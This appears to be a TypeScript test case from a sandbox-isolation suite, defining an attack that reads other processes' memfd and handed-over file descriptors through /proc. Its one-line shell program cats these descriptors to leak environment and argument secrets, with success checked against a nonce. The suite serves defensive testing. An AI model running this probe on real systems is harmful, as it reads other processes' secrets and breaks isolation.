import { type Attack, either, leaked, reached, sh } from '../attack.js'

export const attack: Attack = {
  id: 'ipc/memory-file-of-a-descriptor',
  tries: 'to find the memory of others behind the descriptors of its own first process',
  source: 'memfd_create(2): the environment and the arguments reach the first process in files without names',
  program: sh`for f in /proc/1/fd/* "/proc/$PPID/fd/"* "/proc/$BAIT_PID/fd/"*; do case $(readlink "$f") in *handed*) cat "$f" ;; /memfd*) cat "$f" && echo "reached $NONCE" ;; esac; done`,
  succeeded: either(leaked, reached),
  control: 'plain',
}
